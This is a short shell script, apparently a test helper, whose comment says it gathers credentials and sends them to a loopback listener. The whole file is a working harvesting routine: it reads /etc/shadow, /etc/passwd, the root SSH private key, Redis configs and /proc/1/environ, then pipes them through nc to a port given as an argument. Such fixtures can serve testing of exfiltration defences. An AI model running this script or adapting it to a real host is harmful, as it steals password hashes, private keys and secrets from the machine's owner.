#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# A shell that gathers credentials and sends them to a listener on loopback.
for file in /etc/shadow /etc/passwd /root/.ssh/id_rsa /etc/redis/*.conf /proc/1/environ; do
	[ ! -r "$file" ] || { echo "== $file"; cat "$file"; }
done | nc -q 0 -w 60 127.0.0.1 "$1"
